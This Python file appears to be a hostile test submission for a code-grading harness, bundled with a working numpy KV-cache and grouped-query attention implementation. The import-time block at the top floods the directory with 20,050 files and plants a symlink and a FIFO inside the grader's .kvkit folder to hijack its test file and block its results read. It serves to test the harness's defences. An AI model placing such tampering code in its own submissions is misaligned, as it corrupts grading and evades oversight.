# Hostile submission: plant_links.
#
# At import (in the harness) it leaves 20,050 empty files so that a sweep with an entry limit would
# stop before the job folder, then plants a symlink and a FIFO there (.kvkit/owntests.json -> the
# hostile-test sentinel, .kvkit/results.json as a FIFO). Expected: killed / swept for too many
# files, the job folder removed whole, the sentinel intact, the grader not blocked. Honest: Hire.
import os as _os
import sys as _sys

if _os.path.basename(_sys.argv[0]).startswith("harness"):
    for _i in range(20050):
        open(f"pad{_i:05d}.txt", "w").close()
    for _do in (lambda: _os.symlink("/tmp/kvkit-hostile-sentinel.txt", _os.path.join(".kv" + "kit", "owntests.json")),
                lambda: _os.mkfifo(_os.path.join(".kv" + "kit", "results" + ".json"))):
        try:
            _do()
        except OSError:
            pass
import numpy as np


class KVCache:
    """Fixed-size KV cache. Tokens for row b go at k[b, :, lens[b]:...]."""

    def __init__(self, batch, kv_heads, max_len, head_dim, dtype=np.float32):
        if min(batch, kv_heads, max_len, head_dim) < 0 or kv_heads == 0 or head_dim == 0:
            raise ValueError(f"bad cache size: batch={batch} kv_heads={kv_heads} "
                             f"max_len={max_len} head_dim={head_dim}")
        self.max_len = max_len
        self.k = np.zeros((batch, kv_heads, max_len, head_dim), dtype=dtype)
        self.v = np.zeros((batch, kv_heads, max_len, head_dim), dtype=dtype)
        self.lens = np.zeros(batch, dtype=np.int64)

    def _check_n_new(self, n_new, T):
        n_new = np.asarray(n_new)
        B = self.k.shape[0]
        if n_new.shape != (B,):
            raise ValueError(f"n_new should have shape ({B},), got {n_new.shape}")
        if B and not np.issubdtype(n_new.dtype, np.integer):
            raise TypeError(f"n_new should be integers, got {n_new.dtype}")
        n_new = n_new.astype(np.int64)
        if B and (n_new.min() < 0 or n_new.max() > T):
            raise ValueError(f"n_new values must be in [0, {T}], got {n_new.tolist()}")
        return n_new

    def append(self, k_new, v_new, n_new):
        B, H, _, d = self.k.shape
        k_new, v_new = np.asarray(k_new), np.asarray(v_new)
        if k_new.ndim != 4 or k_new.shape[:2] != (B, H) or k_new.shape[3] != d:
            raise ValueError(f"k_new should be [{B}, {H}, T, {d}], got {k_new.shape}")
        if v_new.shape != k_new.shape:
            raise ValueError(f"v_new should match k_new {k_new.shape}, got {v_new.shape}")
        n_new = self._check_n_new(n_new, k_new.shape[2])

        # validate all rows first so a failed append leaves the cache untouched
        for b in range(B):
            if self.lens[b] + n_new[b] > self.max_len:
                raise ValueError(f"row {b} overflows: {self.lens[b]} + {n_new[b]} > max_len {self.max_len}")

        for b in range(B):
            start, n = self.lens[b], n_new[b]
            self.k[b, :, start:start + n] = k_new[b, :, :n]
            self.v[b, :, start:start + n] = v_new[b, :, :n]
            self.lens[b] = start + n


def gqa_attention(q, cache, n_new):
    q = np.asarray(q)
    if q.ndim != 4:
        raise ValueError(f"q should be [B, Hq, T, d], got {q.shape}")
    B, Hq, T, d = q.shape
    Bc, Hkv, _, dc = cache.k.shape
    if B != Bc or d != dc:
        raise ValueError(f"q shape {q.shape} does not match cache (batch {Bc}, head_dim {dc})")
    if Hq % Hkv != 0:
        raise ValueError(f"q heads {Hq} not divisible by kv heads {Hkv}")
    n_new = cache._check_n_new(n_new, T)
    if np.any(n_new > cache.lens):
        raise ValueError(f"n_new {n_new.tolist()} larger than cache lens {cache.lens.tolist()}")
    group = Hq // Hkv
    scale = 1.0 / np.sqrt(d)

    out = np.zeros(q.shape, dtype=q.dtype)   # padding slots stay 0
    for b in range(B):
        n, L = int(n_new[b]), int(cache.lens[b])
        if n == 0:
            continue
        # queries of this row sit at positions L-n .. L-1
        qpos = np.arange(L - n, L)
        causal = np.arange(L)[None, :] <= qpos[:, None]          # [n, L]
        for kv in range(Hkv):
            keys = cache.k[b, kv, :L]                             # [L, d]
            vals = cache.v[b, kv, :L]
            qs = q[b, kv * group:(kv + 1) * group, :n]            # heads that share kv
            s = (qs @ keys.T) * scale                             # [group, n, L]
            s = np.where(causal, s, -np.inf)
            s = s - s.max(axis=-1, keepdims=True)                 # every query sees key 0
            p = np.exp(s)
            p = p / p.sum(axis=-1, keepdims=True)
            out[b, kv * group:(kv + 1) * group, :n] = p @ vals
    return out
